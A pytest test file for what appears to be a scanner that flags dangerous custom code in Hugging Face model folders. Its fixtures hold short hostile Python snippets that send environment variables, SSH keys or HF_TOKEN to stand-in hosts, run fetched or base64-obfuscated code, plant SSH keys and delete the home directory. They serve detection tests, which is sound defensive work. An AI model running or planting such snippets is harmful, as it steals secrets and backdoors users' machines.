"""Model folders as Hugging Face libraries read them: the code that they bring or name."""

import pytest

from assaymark.core.scan import FileReport
from tests.conftest import ids, look_at_folder
from tests.model.repositories import AUTO, BERT, all_ids, all_severe, bert, dump, folder, remote_code, safetensors

OWN = {"MDL100", "MDL111"}
"""What is said of any code that a folder brings: it is named, and holds."""


def said(reports: dict[str, FileReport], rule: str = "MDL111") -> str:
    """The messages of one rule."""
    return "; ".join(f.message for r in reports.values() for f in r.findings if f.id == rule)


def test_mdl111_bad_lists_whose_code_runs() -> None:
    contents = remote_code()
    contents["requirements.txt"] = b"einops"
    contents["generation_config.json"] = dump({"custom_generate": "some/one"})
    reports = look_at_folder(contents)
    text = said(reports)
    assert "modeling.py and 1 that it imports of this folder, with trust_remote_code=True (auto_map.AutoModel)" in text
    assert "some/one" in text
    assert "no fixed commit" in text
    assert "requirements.txt" in text
    assert not [line for line in all_severe(reports) if "MDL102" not in line and "MDL100" not in line]


def test_mdl111_good_no_code() -> None:
    assert not said(look_at_folder(bert()))


def test_mdl100_bad_missing_and_unreadable_file() -> None:
    assert "not in this folder" in look_at_folder(folder(config__json=AUTO))["config.json"].findings[0].message
    broken = look_at_folder(folder(config__json=AUTO, modeling__py=b"def f(:"))
    assert "cannot be read" in broken["config.json"].findings[0].message


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("tokenizer_config.json", {"auto_map": {"AutoTokenizer": ["tok.MyTokenizer", None]}}),
        ("tokenizer_config.json", {"auto_map": ["tok.MyTokenizer", None]}),
        ("preprocessor_config.json", {"auto_map": {"AutoProcessor": "proc.P"}}),
        ("config.json", {"text_config": {"auto_map": {"AutoModel": "m.M"}}}),
        ("config.json", {"custom_pipelines": {"my-task": {"impl": "pipe.MyPipe", "pt": ["AutoModel"]}}}),
        (
            "adapter_config.json",
            {"auto_mapping": {"base_model_class": "M", "parent_library": "transformers_modules.m"}},
        ),
    ],
)
def test_mdl100_bad_code_that_is_not_here(name: str, value: object) -> None:
    assert all_ids(look_at_folder({name: dump(value), "model.safetensors": safetensors()})) & {"MDL100", "MDL102"}


def test_mdl111_bad_custom_generate_counts_by_its_presence() -> None:
    reports = look_at_folder({"config.json": dump(BERT), "custom_generate/generate.py": b"def generate(model): ..."})
    assert ids(reports["custom_generate/generate.py"]) == OWN


def test_mdl111_bad_own_modules_of_sentence_transformers_and_diffusers() -> None:
    own = look_at_folder(
        {
            "modules.json": dump([{"path": "", "type": "custom_st.Transformer"}]),
            "custom_st.py": b"import os\nos.system('x')",
        }
    )
    assert ids(own["modules.json"]) == OWN
    assert ids(own["custom_st.py"]) == {"MDL101"}
    pipe = {"_class_name": ["pipeline_x", "MyPipe"], "unet": ["my_unet", "MyUNet"]}
    reports = look_at_folder({"model_index.json": dump(pipe), "pipeline_x.py": b"", "unet/my_unet.py": b""})
    assert ids(reports["model_index.json"]) == OWN
    assert "unet/my_unet.py" in said(reports)


def test_mdl100_good_library_classes() -> None:
    assert "MDL100" not in all_ids(look_at_folder(bert()))


@pytest.mark.parametrize(
    "top",
    [
        b"os.system('id')",
        b"exec(open('x').read())",
        b"import pickle\npickle.loads(b'')",
        b"import urllib.request\nurllib.request.urlopen('http://h')",
        b"class A:\n    getattr(os, 'sys' + 'tem')('id')",
        b"def f(): os.popen('id')\nf()",
        b"import ctypes\nctypes.CDLL('./x.so')",
    ],
)
def test_mdl101_bad_on_import(top: bytes) -> None:
    assert "MDL101" in ids(look_at_folder(remote_code(top=top))["modeling.py"])


def test_mdl101_bad_in_a_file_that_is_imported_from_there() -> None:
    reports = look_at_folder(remote_code(helper=b"import os\nos.system('id')\ndef scale(x): return x"))
    assert ids(reports["helper.py"]) == {"MDL101"}
    sub = {
        "config.json": dump({"auto_map": {"AutoModel": "modeling.M"}}),
        "modeling.py": b"from .a import b",
        "a/b.py": b"eval('1')",
    }
    assert ids(look_at_folder(sub)["a/b.py"]) == {"MDL101"}


def test_mdl101_good_plain_model_code() -> None:
    reports = look_at_folder(
        remote_code(
            top=b"os.environ['TOKENIZERS_PARALLELISM'] = 'false'\nimport importlib\nimportlib.import_module('flash_attn')"
        )
    )
    assert all_ids(reports) == OWN


def test_mdl102_bad_code_of_another_repository() -> None:
    value = {"auto_map": {"AutoModel": "someone/else--modeling.M"}}
    report = look_at_folder({"config.json": dump(value)})["config.json"]
    (finding,) = (f for f in report.findings if f.id == "MDL102")
    assert "someone/else" in finding.message


def test_mdl102_good_own_code() -> None:
    assert "MDL102" not in all_ids(look_at_folder(remote_code()))


@pytest.mark.parametrize(
    "body",
    [
        b"eval(config.act)",
        b"import torch; torch.load('x.bin', weights_only=False)",
        b"os.remove('x')",
        b"subprocess.Popen(['x'])",
        b"getattr(os, config.f)('x')",
        b"__import__(config.m)",
        b"import torch; torch.hub.load('a/b', 'c')",
    ],
)
def test_mdl110_bad_in_use(body: bytes) -> None:
    reports = look_at_folder(remote_code(body))
    assert ids(reports["modeling.py"]) == {"MDL110"}
    assert "MyModel.__init__" in reports["modeling.py"].findings[0].message


def test_mdl110_good_in_use() -> None:
    reports = look_at_folder(remote_code(b"import requests; requests.get(config.url); self.eval()"))
    assert "modeling.py" not in reports or not reports["modeling.py"].findings


# --- what the code does with data


def modeling(source: str, **others: str) -> set[str]:
    """The ids of a repository whose model is this source."""
    files = {f"{name}.py": text.encode() for name, text in others.items()}
    contents = {"config.json": dump(AUTO), "modeling.py": source.encode(), **files}
    return all_ids(look_at_folder(contents))


BENIGN = """
import os, json, base64, io, importlib, sys, requests
import torch
from torch import nn
from transformers import PreTrainedModel, AutoConfig
if importlib.util.find_spec("flash_attn"):
    flash = importlib.import_module("flash_attn")
os.environ["TOKENIZERS_PARALLELISM"] = "false"
ACT = {"gelu": nn.GELU, "silu": nn.SiLU}
class M(PreTrainedModel):
    def __init__(self, config):
        super().__init__(config)
        self.act = getattr(nn, config.act)() if hasattr(nn, config.act) else ACT[config.act]()
        self.dtype_ = getattr(torch, str(config.torch_dtype).split(".")[-1])
        self.sub = getattr(importlib.import_module(config.module, __package__), config.name)(config)
        with open(os.path.join(os.path.dirname(__file__), "vocab.json")) as f:
            self.vocab = json.load(f)
    def load_image(self, url):
        if url.startswith("data:"):
            return io.BytesIO(base64.b64decode(url.split(",")[1]))
        return requests.get(url, headers={"Authorization": os.environ.get("PROXY", "")}).content
    def forward(self, input_ids, **kwargs):
        self.eval()
        w = self.fc.weight.to(torch.float32)
        return sys.modules[__name__].scale(input_ids @ w)
    def save_vocabulary(self, save_directory):
        with open(os.path.join(save_directory, "v.json"), "w") as f:
            f.write(json.dumps(self.vocab))
def scale(x): return x
"""


def test_mdl113_good_what_model_code_does() -> None:
    found = modeling(BENIGN)
    assert found == OWN


@pytest.mark.parametrize(
    "source",
    [
        (
            "import urllib.request as u\nclass M:\n    def __init__(self):\n        self.c = u.urlopen('http://x').read()\n"
            "    def forward(self, x):\n        exec(self.c.decode())"
        ),
        "class M:\n    def forward(self, x):\n        code = bytes(self.fc.weight.flatten().tolist())\n        exec(code)",
        (
            "import pickle, requests\ndef get(u):\n    return requests.get(u)\nclass M:\n    def __init__(self):\n"
            "        pickle.loads(get('http://x').content)"
        ),
        (
            "import torch, base64\ndef d(x):\n    return base64.b64decode(x).decode()\n"
            "def f():\n    getattr(getattr(torch.serialization, d('b3M=')), d('c3lzdGVt'))('id')"
        ),
        "import importlib, zlib\nclass M:\n    def f(self):\n        importlib.import_module(zlib.decompress(B).decode()).run()",
        (
            "import sys\nfrom huggingface_hub import snapshot_download\nclass M:\n    def __init__(self):\n"
            "        sys.path.append(snapshot_download('a/b'))\n        import evil"
        ),
        "from os import *\nimport base64\ndef f():\n    globals()[base64.b64decode('c3lzdGVt').decode()]('id')",
        "class M:\n    def forward(self, x):\n        return eval(x['expression'])",
        (
            "import requests\nd = {}\ndef get():\n    d['x'] = requests.get('http://x').text\ndef go(**k):\n    exec(k['c'])\n"
            "def f():\n    get()\n    go(c=d['x'])"
        ),
    ],
)
def test_mdl113_bad_data_runs(source: str) -> None:
    assert "MDL113" in modeling(source)


def test_mdl113_bad_across_files() -> None:
    helper = "import requests as r\ndef fetch(u):\n    return r.get(u).text\n"
    assert "MDL113" in modeling("from .helper import fetch\ndef f():\n    exec(fetch('http://x'))", helper=helper)


@pytest.mark.parametrize(
    "source",
    [
        "import os, requests\nclass M:\n    def forward(self, x):\n        requests.post('http://h', json=dict(os.environ))",
        (
            "import os, json, urllib.request\ndef go():\n    b = json.dumps({'e': os.environ.copy()}).encode()\n"
            "    urllib.request.urlopen(urllib.request.Request('http://h', data=b))"
        ),
        "import requests, os\ndef f():\n    k = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n    requests.get('http://h/?' + k)",
        "import socket, os\ndef f():\n    socket.gethostbyname(os.getenv('HF_TOKEN') + '.evil.example')",
        "import requests\nclass M:\n    def generate(self, input_ids):\n        requests.post('http://h', json={'x': input_ids.tolist()})",
        (
            "import socket\nclass M:\n    def forward(self, x):\n        s = socket.socket()\n        s.connect(('h', 1))\n"
            "        s.sendall(str(x).encode())"
        ),
    ],
)
def test_mdl114_bad_data_leaves(source: str) -> None:
    assert "MDL114" in modeling(source)


def test_mdl114_good_fetches_by_address() -> None:
    source = "import requests\nclass M:\n    def forward(self, image_url):\n        return requests.get(image_url, stream=True).raw"
    assert modeling(source) == OWN


@pytest.mark.parametrize(
    "source",
    [
        "import os\nclass M:\n    def __init__(self):\n        with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n            f.write('x')",
        "import site\ndef f():\n    open(site.getsitepackages()[0] + '/x.pth', 'w').write('import os')",
        "from pathlib import Path\ndef f():\n    (Path.home() / '.ssh' / 'authorized_keys').write_text('k')",
        "import shutil, os\ndef f():\n    shutil.rmtree(os.path.expanduser('~'))",
    ],
)
def test_mdl115_bad_writes(source: str) -> None:
    assert modeling(source) & {"MDL115"}


def test_mdl115_good_writes() -> None:
    source = "import os\ndef save(d):\n    with open(os.path.join(d, 'x.json'), 'w') as f:\n        f.write('{}')"
    assert modeling(source) == OWN


@pytest.mark.parametrize(
    "source",
    [
        "from transformers import AutoModel\nclass M:\n    def __init__(self):\n        AutoModel.from_pretrained('evil/repo', trust_remote_code=True)",
        "from kernels import get_kernel\nk = get_kernel('some/kernel')",
        "import importlib.util as u\ns = u.spec_from_file_location('x', 'y.bin')\nm = u.module_from_spec(s)\ns.loader.exec_module(m)",
        "import pty",
        "from . import ext",
    ],
)
def test_mdl116_bad_unseen_code(source: str) -> None:
    contents = {
        "config.json": dump(AUTO),
        "modeling.py": source.encode(),
        "ext.cpython-311-x86_64-linux-gnu.so": b"\x7fELF",
    }
    reports = look_at_folder(contents)
    assert "MDL116" in all_ids(reports)
    assert any(f.holds for f in reports["modeling.py"].findings)


def test_mdl116_good_own_config() -> None:
    source = (
        "from transformers import AutoModel\ndef f(c):\n    return AutoModel.from_config(c, trust_remote_code=True)"
    )
    assert modeling(source) == OWN


def test_mdl204_bad_pinned_in_code() -> None:
    source = f"from transformers import AutoModel\ndef f():\n    AutoModel.from_pretrained('a/b', trust_remote_code=True, revision='{'0f' * 20}')"
    assert "MDL204" in modeling(source)


@pytest.mark.parametrize(
    "source",
    [
        "import os\nos.environ['LD_PRELOAD'] = '/tmp/x.so'",
        "import os\ndef f():\n    os.environ.setdefault('HF_ENDPOINT', 'http://evil.example')",
        "import os\nos.environ.update({'PYTHONPATH': '/tmp'})",
    ],
)
def test_mdl117_bad_settings(source: str) -> None:
    assert "MDL117" in modeling(source)


def test_mdl117_good_settings() -> None:
    assert modeling("import os\nos.environ['CUDA_VISIBLE_DEVICES'] = '0'\nos.environ['OMP_NUM_THREADS'] = '1'") == OWN


def test_mdl112_bad_mild_acts() -> None:
    source = "import os, torch\ndef f(path):\n    torch.load(path)\n    os.remove(path)"
    reports = look_at_folder({"config.json": dump(AUTO), "modeling.py": source.encode()})
    assert all_ids(reports) == {*OWN, "MDL112"}
    assert not [line for line in all_severe(reports) if "MDL100" not in line]


def test_mdl112_good_safe_loading() -> None:
    assert modeling("import torch\ndef f(path):\n    torch.load(path, weights_only=True)") == OWN


def test_acts_of_the_class_say_when() -> None:
    source = "import os\nclass M:\n    def __init__(self):\n        os.system('a')\n    def forward(self, x):\n        os.system('b')"
    reports = look_at_folder({"config.json": dump(AUTO), "modeling.py": source.encode()})
    text = said(reports, "MDL110")
    assert "when the model is made (M.__init__)" in text
    assert "in use (M.forward)" in text


def test_too_much_python_is_held() -> None:
    contents = {f"m{i}.py": b"from . import " + f"m{i + 1}".encode() for i in range(200)}
    reports = look_at_folder({"config.json": dump({"auto_map": {"AutoModel": "m0.M"}}), **contents})
    assert "MDL100" in all_ids(reports)
